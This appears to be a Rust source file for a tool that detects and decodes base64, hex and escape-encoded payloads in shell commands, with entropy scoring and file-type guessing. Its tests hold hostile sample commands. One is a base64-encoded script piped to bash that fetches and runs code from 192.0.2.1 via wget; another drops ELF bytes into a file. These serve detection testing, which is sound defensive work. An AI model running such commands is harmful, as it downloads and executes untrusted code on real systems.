//! Payloads: encoded bytes that commands carry, as base64, hexadecimal digits or escapes.

use serde::{Deserialize, Serialize};

use crate::{
    indicator::{Indicator, indicators},
    statistics::entropy,
};

/// Shorter runs are words.
const SHORTEST: usize = 40;
/// Most characters of the readable preview.
const PREVIEW: usize = 200;
/// Most payloads of a command.
const MOST: usize = 16;

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Encoding {
    /// `aGVsbG8=`
    Base64,
    /// `7f454c46`
    Hex,
    /// `\x7f\x45`
    Escapes,
}

#[derive(Clone, PartialEq, Debug, Serialize, Deserialize)]
pub struct Payload {
    pub encoding: Encoding,
    /// Number of decoded bytes.
    pub length: u64,
    /// Entropy of the decoded bytes, in bits per byte.
    pub entropy: f64,
    /// In [0, 1]: [`randomness`].
    pub randomness: f64,
    /// The first decoded bytes, with `·` for what is not printable ASCII.
    pub preview: String,
    /// The file type, when the first bytes are known.
    pub looks_like: Option<String>,
}

/// Returns the payloads of a command, each with a 16-byte id. Public keys are left out, because they are
/// indicators of their own.
pub fn payloads(command: &str) -> Vec<([u8; 16], Payload)> {
    let keys: Vec<&str> = indicators(command)
        .into_iter()
        .filter_map(|one| if let Indicator::Key(key) = one { Some(key) } else { None })
        .collect();
    let mut found = Vec::new();
    for (encoding, run) in runs(command) {
        if found.len() >= MOST {
            break;
        }
        if keys.iter().any(|key| key.contains(run) || run.contains(*key)) {
            continue;
        }
        let Some(bytes) = decode(encoding, run) else { continue };
        let mut name = [0; 16];
        name.copy_from_slice(&blake3::hash(&bytes).as_bytes()[..16]);
        found.push((name, describe(encoding, &bytes)));
    }
    found
}

fn describe(encoding: Encoding, bytes: &[u8]) -> Payload {
    let entropy = entropy(bytes);
    let printable = |&byte: &u8| if (0x20..0x7f).contains(&byte) { char::from(byte) } else { '·' };
    let known: [(&[u8], &str); 7] = [
        (b"\x7fELF", "ELF program"),
        (b"#!", "script"),
        (b"\x1f\x8b", "gzip"),
        (b"MZ", "Windows program"),
        (b"PK\x03\x04", "zip"),
        (b"BZh", "bzip2"),
        (b"UPX!", "UPX"),
    ];
    let looks_like =
        known.iter().find(|(start, _)| bytes.starts_with(start)).map(|(_, name)| (*name).to_owned());
    Payload {
        encoding,
        length: bytes.len() as u64,
        entropy,
        randomness: randomness(entropy, bytes.len()),
        preview: bytes.iter().take(PREVIEW).map(printable).collect(),
        looks_like,
    }
}

/// Returns the sufficiently long runs of one alphabet.
fn runs(command: &str) -> Vec<(Encoding, &str)> {
    let mut found = Vec::new();
    let mut rest = command;
    while let Some(start) = rest.find(|c: char| is_base64(c) || c == '\\') {
        rest = &rest[start..];
        let (encoding, end) = if rest.starts_with('\\') {
            (Encoding::Escapes, escapes(rest))
        } else {
            (Encoding::Base64, end_of(rest, is_base64))
        };
        let run = &rest[..end];
        if run.len() >= SHORTEST {
            let hex = run.bytes().all(|byte| byte.is_ascii_hexdigit())
                && run.bytes().any(|byte| byte.is_ascii_digit());
            // Paths and words in one case consist of base64 letters, too.
            let mixed = run.bytes().any(|b| b.is_ascii_uppercase())
                && run.bytes().any(|b| b.is_ascii_lowercase())
                && run.matches('/').count() * 10 < run.len();
            match encoding {
                Encoding::Escapes if run.bytes().all(|byte| byte == b'\\') => (),
                Encoding::Escapes => found.push((Encoding::Escapes, run)),
                _ if hex => found.push((Encoding::Hex, run)),
                _ if mixed => found.push((Encoding::Base64, run)),
                _ => (),
            }
        }
        rest = &rest[end.max(1)..];
    }
    found
}

fn is_base64(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')
}

fn end_of(text: &str, belongs: impl Fn(char) -> bool) -> usize {
    text.find(|c: char| !belongs(c)).unwrap_or(text.len())
}

/// Returns the end of a run of `\x7f`, `\177` and printable characters between them, as `echo -e` reads it.
fn escapes(text: &str) -> usize {
    let bytes = text.as_bytes();
    let mut at = 0;
    while bytes.get(at) == Some(&b'\\') {
        let from = at;
        while bytes.get(at) == Some(&b'\\') {
            at += 1;
        }
        let digits = if bytes.get(at) == Some(&b'x') {
            1 + count(bytes, at + 1, 2, |b| b.is_ascii_hexdigit())
        } else {
            count(bytes, at, 3, |b| (b'0'..b'8').contains(&b))
        };
        if digits == 0 || bytes.get(at) == Some(&b'x') && digits == 1 {
            // A run of backslashes is read once, however long it is.
            return if from == 0 { at } else { from };
        }
        at += digits;
    }
    at.max(1)
}

fn count(bytes: &[u8], from: usize, most: usize, wanted: impl Fn(u8) -> bool) -> usize {
    bytes.iter().skip(from).take(most).take_while(|&&byte| wanted(byte)).count()
}

fn decode(encoding: Encoding, run: &str) -> Option<Vec<u8>> {
    match encoding {
        Encoding::Hex => {
            (0..run.len() / 2).map(|n| u8::from_str_radix(&run[2 * n..2 * n + 2], 16).ok()).collect()
        }
        Encoding::Base64 => Some(base64(run.trim_end_matches('='))),
        Encoding::Escapes => Some(run.split('\\').filter(|part| !part.is_empty()).filter_map(byte).collect()),
    }
}

fn byte(part: &str) -> Option<u8> {
    match part.strip_prefix('x') {
        Some(hex) => u8::from_str_radix(hex, 16).ok(),
        None => u8::from_str_radix(part, 8).ok(),
    }
}

/// Decodes whole bytes of base64. Characters outside its alphabet have been removed before.
fn base64(text: &str) -> Vec<u8> {
    let value = |byte: u8| match byte {
        b'A'..=b'Z' => byte - b'A',
        b'a'..=b'z' => byte - b'a' + 26,
        b'0'..=b'9' => byte - b'0' + 52,
        b'+' => 62,
        _ => 63,
    };
    let mut bytes = Vec::with_capacity(text.len() * 3 / 4);
    let (mut bits, mut held) = (0_u32, 0);
    for byte in text.bytes() {
        bits = bits << 6 | u32::from(value(byte));
        held += 6;
        if held >= 8 {
            held -= 8;
            bytes.push((bits >> held) as u8);
        }
    }
    bytes
}

/// Returns the entropy divided by the mean entropy of as many random bytes, in [0, 1]: log2 k − (k − 1) / (2
/// n ln 2) with k = min(n, 256) (Miller 1955). So a short random payload does not look ordered.
pub fn randomness(entropy: f64, length: usize) -> f64 {
    let (n, k) = (length.max(1) as f64, length.clamp(1, 256) as f64);
    let random = k.log2() - (k - 1.0) / (2.0 * n * std::f64::consts::LN_2);
    if random <= 0.0 { 0.0 } else { (entropy / random).clamp(0.0, 1.0) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encoded_bytes_are_found_and_read() {
        let found =
            payloads("echo IyEvYmluL2Jhc2gKd2dldCBodHRwOi8vMTkyLjAuMi4xL3ggLU8tIHwgc2gK | base64 -d | bash");
        assert_eq!(found.len(), 1);
        assert_eq!(
            (found[0].1.encoding, found[0].1.looks_like.as_deref()),
            (Encoding::Base64, Some("script"))
        );
        assert!(
            found[0].1.preview.starts_with("#!/bin/bash·wget http://192.0.2.1/x"),
            "{}",
            found[0].1.preview
        );
        let elf = format!("echo -ne '{}' >> x", r"\x7f\x45\x4c\x46\x01\x01\x01\x00\x00\x02\x03\x04");
        assert_eq!(payloads(&elf)[0].1.looks_like.as_deref(), Some("ELF program"));
        assert_eq!(
            payloads(&format!("echo {} | xxd -r -p", "7f454c46".repeat(6)))[0].1.encoding,
            Encoding::Hex
        );
        for none in [
            "cat /usr/share/doc/packages/something/long/enough/to/be/considered",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            r"\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\\",
            "",
        ] {
            assert_eq!(payloads(none), [], "{none}");
        }
        let key = format!("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB{}", "AgICaBcD".repeat(20));
        assert_eq!(payloads(&key), []);
    }

    #[test]
    fn a_short_random_payload_is_as_random_as_a_long_one() {
        let random =
            |n: usize| (0..n).map(|i| blake3::hash(&i.to_le_bytes()).as_bytes()[0]).collect::<Vec<u8>>();
        for n in [64, 300, 5_000] {
            let bytes = random(n);
            let value = randomness(entropy(&bytes), n);
            assert!(value > 0.93, "{n}: {value}");
        }
        assert!(randomness(entropy(&[7; 100]), 100) < 0.01);
    }
}
